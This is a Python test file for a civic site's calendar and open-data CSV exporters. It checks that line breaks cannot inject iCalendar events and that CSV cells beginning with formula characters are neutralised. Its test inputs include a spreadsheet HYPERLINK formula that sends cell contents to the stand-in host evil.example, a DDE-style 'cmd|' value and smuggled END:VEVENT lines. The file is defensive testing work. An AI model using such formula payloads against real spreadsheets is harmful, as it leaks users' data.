"""Files for other programs, written by their format's rules: the calendar (RFC 5545, read back by
the icalendar library) and the open data CSV (RFC 4180, OWASP's advice on formulas)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import icalendar
import pytest

from cittamedie.content.load import load_site
from cittamedie.exports import opendata
from cittamedie.exports.calendar import calendar
from cittamedie.markup.formulas import formula_lead, looks_like_formula

# Every way a text can break a line for some reader (C0, C1's NEXT LINE, Unicode's separators)
SEPARATORS = [
    "\n",
    "\r",
    "\r\n",
    "\x0b",
    "\x0c",
    "\x1c",
    "\x1d",
    "\x1e",
    "\x85",
    "\u2028",
    "\u2029",
]
SITE_URL = "https://cittamedie.example.org/"
STAMP = dt.datetime(2026, 3, 4, 5, 6, 7, tzinfo=dt.UTC)  # the build's time (history/stamp.py)


def _events_tree(valid_tree, title: str, place: str = "Roma", description: str = "Primo incontro."):
    """The valid tree with its first event's Italian title, place and description replaced."""
    events = valid_tree / "data" / "events.yml"
    text = events.read_text("utf-8")
    for field, old, new in (
        ("title", "Incontro di Roma", title),
        ("place", "Roma", place),
        ("description", "Primo incontro.", description),
    ):
        quoted = '"' + new.encode("unicode_escape").decode("ascii").replace('"', '\\"') + '"'
        text = text.replace(f'{field}: {{it: "{old}"', f"{field}: {{it: {quoted}", 1)
    events.write_text(text, "utf-8")
    site = load_site(valid_tree)
    assert site.items("events"), "the schema refused the changed event"
    return site


def _physical_lines(data: bytes) -> list[bytes]:
    assert data.endswith(b"\r\n")
    lines = data[:-2].split(b"\r\n")
    for line in lines:  # no line end but CRLF: no lone CR or LF inside a line
        assert b"\r" not in line and b"\n" not in line, line
    return lines


@pytest.mark.parametrize("separator", SEPARATORS, ids=[f"U+{ord(s[-1]):04X}" for s in SEPARATORS])
def test_a_line_break_in_an_event_text_stays_inside_its_property(separator, valid_tree):
    """Titles and places with a line break are refused by the schema (and then not in the data);
    a description may hold line ends: whatever their kind, the calendar escapes them."""
    text = f"Testo{separator}END:VEVENT{separator}BEGIN:VEVENT"
    data = calendar(_events_tree(valid_tree, "Roma", description=text), SITE_URL, STAMP).encode(
        "utf-8"
    )
    lines = _physical_lines(data)
    assert not any(line.startswith((b"END:VEVENT\\", b"BEGIN:VEVENT\\")) for line in lines)
    events = list(icalendar.Calendar.from_ical(data).walk("VEVENT"))
    assert len(events) == 1  # the text made no event of its own
    assert str(events[0]["DESCRIPTION"]) == "Testo\nEND:VEVENT\nBEGIN:VEVENT / First meeting."
    assert b"\xc2\x85" not in data and "\u2028".encode() not in data


def test_the_calendar_is_folded_at_75_octets_without_splitting_a_character(valid_tree):
    title = "Città " * 40 + "–€𝄞" * 10  # 2-, 3- and 4-byte characters across the fold points
    site = _events_tree(valid_tree, title, place="Bari; Lecce, Taranto \\ Brindisi")
    data = calendar(site, SITE_URL, STAMP).encode("utf-8")
    lines = _physical_lines(data)
    assert max(len(line) for line in lines) <= 75
    assert sum(line.startswith(b" ") for line in lines) >= 4  # continuation lines
    for line in lines:
        line.decode("utf-8")  # each physical line is whole UTF-8: no character split
    (event,) = icalendar.Calendar.from_ical(data).walk("VEVENT")
    assert str(event["SUMMARY"]) == title
    assert str(event["LOCATION"]) == "Bari; Lecce, Taranto \\ Brindisi"
    assert event.decoded("DTSTART").isoformat() == "2023-02-06"
    assert event.decoded("DTEND").isoformat() == "2023-02-08"  # exclusive: the day after the end
    # made at the build's time, not the clock's: a rebuild of the same commit writes the same bytes
    assert event.decoded("DTSTAMP") == STAMP
    assert calendar(site, SITE_URL, STAMP).encode("utf-8") == data


# ---------------------------------------------------------------- CSV


def _record(**fields) -> dict:
    base = {name: "" for name in opendata.FIELDS}
    base.update({name: [] for name in (*opendata.LISTS, "results")})
    base.update(fields)
    return base


@pytest.mark.parametrize(
    "lead", ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠", "  ="]
)
def test_a_text_cell_with_a_formula_lead_is_neutralised(lead):
    text = f'{lead}HYPERLINK("https://evil.example/?"&A1;"x")'
    rows = list(csv.DictReader(io.StringIO(opendata.as_csv([_record(title_it=text)]))))
    assert rows[0]["title_it"] == "'" + text


def test_a_list_cell_starting_with_a_formula_is_neutralised():
    record = _record(targets=["-2+3", "cittadini"], partners=["@SUM(A1)"])
    rows = list(csv.DictReader(io.StringIO(opendata.as_csv([record]))))
    assert rows[0]["targets"] == "'-2+3 | cittadini"
    assert rows[0]["partners"] == "'@SUM(A1)"


def test_numbers_stay_numbers_and_text_is_quoted():
    record = _record(id="x", title_it="-5 idee", budget_eur=-1500.5, period_start=2019, action="-1")
    text = opendata.as_csv([record])
    data_line = text.split("\r\n")[1]
    assert '"x"' in data_line and ",-1500.5," in data_line and ",2019," in data_line
    (row,) = list(csv.reader(io.StringIO(text), quoting=csv.QUOTE_NONNUMERIC))[1:]
    values = dict(zip(opendata.FIELDS, row, strict=False))
    assert values["budget_eur"] == -1500.5 and values["period_start"] == 2019.0
    assert values["title_it"] == "'-5 idee" and values["action"] == "'-1"  # text stays text


def test_plain_text_and_empty_cells_are_left_alone():
    rows = list(csv.DictReader(io.StringIO(opendata.as_csv([_record(title_it="Bari 2024")]))))
    assert rows[0]["title_it"] == "Bari 2024" and rows[0]["summary_it"] == ""


@pytest.mark.parametrize(
    "text, lead",
    [
        ("-5", None),
        ("+39 080 123", None),
        ("-20% della spesa", None),
        ("- una voce", None),
        ("-1.000,5 euro", None),
        ("-2+3", "-"),
        ("-5 +cmd|x", "-"),
        ("+HYPERLINK(1)", "+"),
        ("  =1+1", "="),
        ("@SUM(A1)", "@"),
        ("Bari", None),
    ],
)
def test_the_validator_refuses_what_reads_as_a_formula_not_a_signed_number(text, lead):
    assert looks_like_formula(text) == lead
    assert formula_lead(text) == (text.lstrip()[:1] if text.lstrip()[:1] in "=+-@" else None)


def test_reading_a_field_as_a_formula_is_linear():
    assert looks_like_formula("-1" + " " * 200_000 + "+") == "-"  # no backtracking over spaces
